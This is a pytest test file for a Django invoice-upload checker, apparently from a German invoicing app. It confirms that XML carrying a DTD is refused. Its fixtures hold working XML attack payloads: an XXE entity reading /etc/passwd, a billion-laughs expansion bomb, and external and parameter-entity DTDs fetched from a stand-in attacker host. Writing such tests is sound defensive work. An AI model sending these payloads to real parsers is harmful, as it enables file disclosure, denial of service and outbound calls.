"""XML uploads with a document type declaration (external entities, entity expansion)
are refused with a message that says DTDs and entities are not allowed, not that the
file is no XML; nothing of them is expanded or fetched."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from kivoucher.core.uploads import DOCUMENTS, INVOICES, UploadRefused, upload_check

UBL = b'xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"'

XXE = (
    b'<?xml version="1.0"?>\n'
    b'<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b"<Invoice " + UBL + b"><ID>&xxe;</ID></Invoice>"
)
LAUGHS = [b'<!ENTITY lol0 "lol">']
LAUGHS += [b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10)]
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE Invoice [\n'
    + b"\n".join(LAUGHS)
    + b"\n]>\n<Invoice "
    + UBL
    + b"><ID>&lol9;</ID></Invoice>"
)
EXTERNAL_DTD = (
    b'<?xml version="1.0"?>\n'
    b'<!DOCTYPE Invoice SYSTEM "http://attacker.invalid/invoice.dtd">\n'
    b"<Invoice " + UBL + b"><ID>1</ID></Invoice>"
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?>\n'
    b'<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>\n'
    b"<Invoice " + UBL + b"/>"
)


@pytest.mark.parametrize(
    "content",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity"],
)
def test_xml_with_a_dtd_is_refused_with_a_message_that_says_so(content):
    with translation.override("en"), pytest.raises(UploadRefused) as exc:
        upload_check(SimpleUploadedFile("rechnung.xml", content), allowed=INVOICES)
    assert exc.value.code == "xml_dtd_forbidden"
    assert "DTD" in exc.value.message and "entities are not allowed" in exc.value.message
    assert "is not a XML" not in exc.value.message
    assert "root:" not in exc.value.message  # /etc/passwd was not read


def test_the_refusal_is_german_by_default():
    with translation.override("de"), pytest.raises(UploadRefused) as exc:
        upload_check(SimpleUploadedFile("rechnung.xml", XXE), allowed=INVOICES)
    assert "DTD" in exc.value.message and "nicht erlaubt" in exc.value.message


def test_the_billion_laughs_file_is_small():
    assert len(BILLION_LAUGHS) < 1000  # it would expand to a thousand million "lol"s


def test_xml_with_a_dtd_without_a_name_is_refused_too():
    with pytest.raises(UploadRefused) as exc:
        upload_check(BILLION_LAUGHS, allowed=INVOICES)
    assert exc.value.code == "xml_dtd_forbidden"


def test_broken_xml_is_still_not_xml():
    with translation.override("en"), pytest.raises(UploadRefused) as exc:
        upload_check(SimpleUploadedFile("rechnung.xml", b"<Invoice><ID>1</Invoice>"))
    assert exc.value.code == "invalid_file"
    assert "claims to be a XML" in exc.value.message


def test_where_xml_is_not_accepted_the_kind_is_what_counts():
    with translation.override("en"), pytest.raises(UploadRefused) as exc:
        upload_check(SimpleUploadedFile("beleg", XXE), allowed=DOCUMENTS)
    assert exc.value.code == "invalid_file"
    assert "not accepted" in exc.value.message


def test_plain_xml_invoices_still_pass():
    plain = b'<?xml version="1.0"?><Invoice ' + UBL + b"><ID>1</ID></Invoice>"
    assert upload_check(SimpleUploadedFile("rechnung.xml", plain), allowed=INVOICES).kind == "xml"
